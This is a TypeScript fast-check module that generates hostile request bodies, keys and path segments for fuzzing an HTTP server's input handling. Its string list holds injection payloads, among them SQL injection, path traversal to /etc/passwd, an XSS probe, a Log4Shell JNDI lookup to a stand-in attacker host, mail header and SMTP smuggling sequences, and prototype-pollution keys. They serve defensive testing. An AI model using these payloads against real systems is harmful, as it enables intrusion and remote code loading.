import fc from 'fast-check';

/*
 * Hostile values for property tests: strings, keys, whole bodies, schema-shaped bodies spoiled
 * in one place, and path segments. Used by server/http/hostile-*.test.ts through hostile.ts.
 */

/** The parts of a JSON schema (as OpenAPI shows a route's body) that the generators read. */
export interface JsonSchema {
  type?: string | string[];
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  minItems?: number;
  maxItems?: number;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  pattern?: string;
  format?: string;
}

/** Strings that have broken parsers, databases, templates and mail headers before. */
export const NASTY_STRINGS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u0001\u0002\u0003\u0007\u0008\u000b\u000c\u001b\u007f',
  '\u0085\u2028\u2029',
  '\u202eevil\u202c',
  '\u200f\u200e\ufeff',
  '\ud800',
  'x\udfffy',
  '😀'.repeat(50),
  'e\u0301\u0301\u0301',
  '1',
  '-1',
  '1e309',
  '-1e309',
  'Infinity',
  'NaN',
  'true',
  'null',
  "' OR 1=1 --",
  '%00%0d%0a',
  '../../../etc/passwd',
  '<script>alert(1)</script>',
  '{name}',
  '{0, plural, other {#}}',
  "'{'",
  '${jndi:ldap://evil.example/a}',
  'x\r\nBcc: evil@example.org',
  'x\nSubject: injected',
  '\r\n\r\n<html><body>injected</body></html>',
  '=?utf-8?B?QmNjOiBldmlsQGV4YW1wbGUub3Jn?=',
  '\r\n.\r\nMAIL FROM:<evil@example.org>\r\nRCPT TO:<evil@example.org>\r\nDATA\r\n',
  'a'.repeat(100_000),
];

/** Object keys that try prototype pollution or look like something else. */
export const NASTY_KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  '',
  '\u0000',
  'toString',
  'hasOwnProperty',
  '$where',
  'a.b',
  '../x',
];

/** Any string: every code point including lone surrogates, the nasty ones, or a big one. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...NASTY_STRINGS), weight: 4 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 3 },
  {
    arbitrary: fc.string({ unit: fc.constantFrom('\u0000', '\r', '\n', '\u2028', 'a', '\ud800'), maxLength: 20 }),
    weight: 2,
  },
  {
    arbitrary: fc
      .tuple(fc.string({ unit: 'binary', maxLength: 4 }), fc.integer({ min: 1_000, max: 200_000 }))
      .map(([s, n]) => (s || 'x').repeat(Math.ceil(n / Math.max(1, (s || 'x').length)))),
    weight: 1,
  },
);

/** A JSON-representable value of any type and shape, with hostile strings and keys. */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    fc.constantFrom(null, true, false, 0, -0, -1, 1.5, 2 ** 53 + 1, 1e308, -1e308),
    fc.integer(),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(fc.oneof(fc.constantFrom(...NASTY_KEYS), fc.string({ maxLength: 8 })), tie('value'), {
      maxKeys: 4,
      noNullPrototype: false,
    }),
  ),
})).value;

/** A whole body: any JSON value, serialised with JSON.stringify (own __proto__ keys survive). */
export const arbitraryJsonBody: fc.Arbitrary<string> = fc
  .oneof(fc.jsonValue({ maxDepth: 4 }), hostileValue)
  .map((v) => JSON.stringify(v) ?? 'null');

/** A value the schema probably accepts, so a mutation elsewhere reaches the service. */
export function validish(schema: JsonSchema | undefined, depth = 0): fc.Arbitrary<unknown> {
  if (!schema || depth > 6) return fc.constant(null);
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map((s) => validish(s, depth + 1)));
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case 'object': {
      const properties = schema.properties ?? {};
      const shape = Object.fromEntries(Object.entries(properties).map(([k, s]) => [k, validish(s, depth + 1)]));
      return fc.record(shape, { requiredKeys: (schema.required ?? []).filter((k) => k in properties) });
    }
    case 'array':
      return fc.array(validish(schema.items, depth + 1), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.max(schema.minItems ?? 0, Math.min(schema.maxItems ?? 3, 3)),
      });
    case 'integer':
      return fc.integer({ min: schema.minimum ?? -1000, max: schema.maximum ?? 1000 });
    case 'number':
      return fc.double({ min: schema.minimum ?? -1000, max: schema.maximum ?? 1000, noNaN: true });
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'string':
      return validString(schema);
    case undefined:
    default:
      return fc.jsonValue({ maxDepth: 1 });
  }
}

function validString(schema: JsonSchema): fc.Arbitrary<string> {
  if (schema.format === 'uuid') return fc.uuid();
  if (schema.format === 'email') return fc.emailAddress();
  if (schema.format === 'date-time') {
    return fc
      .date({ min: new Date('2020-01-01'), max: new Date('2035-01-01'), noInvalidDate: true })
      .map((d) => d.toISOString());
  }
  if (schema.pattern) return fc.stringMatching(new RegExp(schema.pattern));
  const min = schema.minLength ?? 0;
  return fc.string({ minLength: min, maxLength: Math.max(min, Math.min(schema.maxLength ?? 40, 40)) });
}

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type Path = (string | number)[];

const clone = (value: unknown): Json => JSON.parse(JSON.stringify(value ?? null) ?? 'null') as Json;
const isObject = (v: Json | undefined): v is { [key: string]: Json } =>
  v !== null && typeof v === 'object' && !Array.isArray(v);

function valueAt(value: Json, path: Path): Json | undefined {
  let here: Json | undefined = value;
  for (const key of path)
    here = here !== null && typeof here === 'object' ? (here as Record<string, Json>)[key] : undefined;
  return here;
}

/** Paths to every value inside a JSON value, the root included. */
function pathsOf(value: Json, prefix: Path = []): Path[] {
  const here = [prefix];
  if (Array.isArray(value)) return here.concat(...value.map((v, i) => pathsOf(v, [...prefix, i])));
  if (isObject(value)) return here.concat(...Object.entries(value).map(([k, v]) => pathsOf(v, [...prefix, k])));
  return here;
}

/** How many values a body holds, the root included: `mutate` picks one by index modulo this. */
export function valueCount(body: unknown): number {
  return pathsOf(clone(body)).length;
}

/** Sets an own property, even one named __proto__ (plain assignment would set the prototype). */
function setOwn(holder: Json, key: string | number, v: Json): void {
  Object.defineProperty(holder, key, { value: v, enumerable: true, writable: true, configurable: true });
}

/** One way to spoil a body: a hostile value at one place, a key removed, or a hostile key added. */
export type Mutation =
  | { kind: 'replace'; at: number; with: unknown }
  | { kind: 'remove'; at: number }
  | { kind: 'addKey'; at: number; key: string; with: unknown };

export const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  { arbitrary: fc.record({ kind: fc.constant('replace' as const), at: fc.nat(), with: hostileValue }), weight: 3 },
  { arbitrary: fc.record({ kind: fc.constant('replace' as const), at: fc.nat(), with: hostileString }), weight: 4 },
  { arbitrary: fc.record({ kind: fc.constant('remove' as const), at: fc.nat() }), weight: 1 },
  {
    arbitrary: fc.record({
      kind: fc.constant('addKey' as const),
      at: fc.nat(),
      key: fc.constantFrom(...NASTY_KEYS),
      with: hostileValue,
    }),
    weight: 1,
  },
);

const MARKER = '__hostile_marker__';

/**
 * Applies a mutation to a body and serialises it. Added keys are written as JSON text, so
 * `__proto__` reaches the server as a key, not as a prototype.
 */
export function mutate(body: unknown, m: Mutation): string {
  const value = clone(body);
  const paths = pathsOf(value);
  const path = paths[m.at % paths.length] ?? [];
  if (m.kind === 'replace') {
    if (path.length === 0) return JSON.stringify(clone(m.with));
    setOwn(valueAt(value, path.slice(0, -1)) ?? null, path.at(-1) ?? '', clone(m.with));
    return JSON.stringify(value);
  }
  if (m.kind === 'remove') {
    const holder = valueAt(value, path.slice(0, -1));
    const key = path.at(-1);
    if (key === undefined) return '{}';
    if (Array.isArray(holder)) holder.splice(Number(key), 1);
    else if (isObject(holder)) delete holder[key];
    return JSON.stringify(value);
  }
  const objects = paths.map((p) => valueAt(value, p)).filter(isObject);
  const target = objects[m.at % Math.max(1, objects.length)];
  const pair = `${JSON.stringify(m.key)}:${JSON.stringify(clone(m.with))}`;
  if (!target) return `{${pair}}`;
  setOwn(target, MARKER, null);
  return JSON.stringify(value).replace(`"${MARKER}":null`, pair);
}

/** A path segment that is not what the route expects: not a UUID, not an M49 code, or an unknown one. */
export const hostileSegment: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '0',
    '-1',
    '288',
    'null',
    'undefined',
    '..',
    '%',
    '%zz',
    '%E0%A4%A',
    '%00',
    '%0d%0a',
    'a'.repeat(400),
  ),
  fc.uuid(),
  hostileString.filter((s) => s.length > 0 && s.length < 300).map((s) => encodeURIComponent(safeForUri(s))),
);

/** encodeURIComponent throws on lone surrogates; put the replacement character there instead. */
function safeForUri(s: string): string {
  return s.replace(/[\ud800-\udfff]/gu, '\ufffd');
}
